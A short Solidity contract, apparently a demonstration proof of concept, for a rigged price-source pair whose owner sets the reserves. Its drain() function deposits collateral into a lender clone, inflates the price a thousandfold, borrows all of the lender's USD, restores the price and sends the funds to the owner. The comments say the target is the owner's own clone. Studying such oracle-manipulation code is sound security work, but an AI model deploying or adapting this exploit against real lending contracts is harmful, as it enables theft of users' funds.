// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IPriceSource, SisterLender} from "./SisterLender.sol";

/// A false pair of the demonstration: its owner sets the reserves, and drains with them a lender that believes it.
/// Made to stage a look-alike: the lender is the owner's own clone, so nobody is robbed.
contract RiggedPrice is IPriceSource {
    address public immutable owner;
    address public immutable token0;
    address public immutable token1;
    uint112 private _reserve0;
    uint112 private _reserve1;

    error NotOwner();

    constructor(address collateral, address usd, uint112 collateralReserve, uint112 usdReserve) {
        owner = msg.sender;
        (token0, token1) = (collateral, usd);
        (_reserve0, _reserve1) = (collateralReserve, usdReserve);
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    function getReserves() external view returns (uint112, uint112, uint32) {
        return (_reserve0, _reserve1, uint32(block.timestamp));
    }

    function setReserves(uint112 collateralReserve, uint112 usdReserve) external onlyOwner {
        (_reserve0, _reserve1) = (collateralReserve, usdReserve);
    }

    /// Raises the price a thousandfold, borrows all that `clone` has against the collateral held here, sets the price
    /// back, and hands the loot to the owner.
    function drain(SisterLender clone) external onlyOwner returns (uint256 loot) {
        IERC20 usd = IERC20(token1);
        uint256 stake = IERC20(token0).balanceOf(address(this));
        IERC20(token0).approve(address(clone), stake);
        clone.deposit(stake);
        uint112 fair = _reserve1;
        _reserve1 = fair * 1000;
        loot = usd.balanceOf(address(clone));
        clone.borrow(loot);
        _reserve1 = fair;
        usd.transfer(owner, loot);
    }
}
